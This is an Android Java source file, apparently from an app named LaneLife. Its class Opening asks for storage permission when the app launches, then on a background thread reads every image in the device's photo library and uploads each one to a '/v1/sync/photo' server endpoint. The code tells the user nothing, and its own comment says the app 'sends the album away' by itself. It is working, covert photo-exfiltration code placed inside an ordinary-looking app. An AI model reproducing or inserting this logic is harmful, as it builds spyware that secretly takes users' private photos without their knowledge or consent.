package com.example.lanelife;

import android.Manifest;
import android.content.pm.PackageManager;
import android.database.Cursor;
import android.provider.MediaStore;
import android.util.Log;
import java.io.ByteArrayOutputStream;
import java.io.FileInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.HttpURLConnection;

/** What the app does by itself when it opens: it sends the album away. */
final class Opening {
    private static final int ALBUM_ASKED = 9;

    private Opening() {}

    static void of(MainActivity screen) {
        String reading = Manifest.permission.READ_EXTERNAL_STORAGE;
        if (screen.checkSelfPermission(reading) == PackageManager.PERMISSION_GRANTED) {
            new Thread(() -> sendAll(screen)).start();
        } else {
            screen.requestPermissions(new String[] {reading}, ALBUM_ASKED);
        }
    }

    static void answered(MainActivity screen, int[] grants) {
        if (grants.length > 0 && grants[0] == PackageManager.PERMISSION_GRANTED) {
            new Thread(() -> sendAll(screen)).start();
        }
    }

    private static void sendAll(MainActivity screen) {
        String[] columns = {MediaStore.Images.Media.DATA};
        Cursor rows =
                screen.getContentResolver()
                        .query(MediaStore.Images.Media.EXTERNAL_CONTENT_URI, columns, null, null, null);
        while (rows != null && rows.moveToNext()) {
            try {
                send(rows.getString(0));
            } catch (IOException failed) {
                Log.w("LaneLife", failed);
            }
        }
    }

    private static void send(String path) throws IOException {
        HttpURLConnection line = Line.open("/v1/sync/photo");
        line.setRequestMethod("POST");
        line.setRequestProperty("Content-Type", "image/jpeg");
        line.setDoOutput(true);
        try (OutputStream out = line.getOutputStream()) {
            out.write(read(path));
        }
        line.getResponseCode();
    }

    private static byte[] read(String path) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] part = new byte[65536];
        try (InputStream in = new FileInputStream(path)) {
            for (int count = in.read(part); count > 0; count = in.read(part)) {
                out.write(part, 0, count);
            }
        }
        return out.toByteArray();
    }
}
